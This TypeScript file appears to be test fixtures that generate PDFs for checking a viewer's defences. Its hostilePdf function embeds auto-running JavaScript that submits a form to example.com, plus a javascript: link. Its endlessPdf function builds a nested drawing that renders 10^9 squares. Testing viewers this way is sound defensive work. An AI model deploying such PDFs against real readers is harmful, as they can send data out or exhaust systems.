/**
 * Makes a PDF of these objects, numbered from 1. The first one is the catalogue. The file has no cross-reference table,
 * because readers do not need it.
 */
function pdfOf(objects: readonly string[]): Buffer {
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj`).join('\n');
  return Buffer.from(`%PDF-1.7\n${body}\ntrailer\n<</Root 1 0 R>>\n%%EOF\n`);
}

const stream = (content: string, more = '') => `<<${more}/Length ${content.length}>>\nstream\n${content}\nendstream`;

/** A black square in the middle of each page of A4. */
const SQUARE = '0 g 197 321 200 200 re f';

/** Makes a PDF of two pages, each with a drawing. */
export function drawnPdf(): Buffer {
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 842 595]/Contents 5 0 R>>',
    stream(SQUARE),
  ]);
}

/** A PDF that runs scripts and opens addresses wherever a reader lets it. Its page is 200 metres wide and high. */
export function hostilePdf(): Buffer {
  const script =
    '<</S/JavaScript/JS(app.alert("document"); this.submitForm("https://example.com/"); globalThis.stolen = 1;)>>';
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${script}/AA<</WC ${script}>>/AcroForm<</Fields[6 0 R]>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 566929 566929]/Contents 4 0 R/Annots[5 0 R 6 0 R]/AA<</O ${script}>>>>`,
    stream('0 g 100000 100000 300000 300000 re f'),
    '<</Type/Annot/Subtype/Link/Rect[0 0 566929 566929]/A<</S/URI/URI(javascript:alert(1))>>>>',
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 400000 400000]/AA<</E ${script}/Fo ${script}>>>>`,
  ]);
}

/** A page that draws 10 to the power of 9 squares. */
export function endlessPdf(): Buffer {
  const levels = 9;
  const form = (level: number) =>
    level === levels
      ? stream('0 0 1 1 re f', '/Type/XObject/Subtype/Form/BBox[0 0 595 842]')
      : stream(
          '/F Do '.repeat(10),
          `/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F ${level + 5} 0 R>>>>`,
        );
  return pdfOf([
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</F 4 0 R>>>>/Contents 14 0 R>>',
    ...Array.from({ length: levels + 1 }, (_, level) => form(level)),
    stream('/F Do'),
  ]);
}
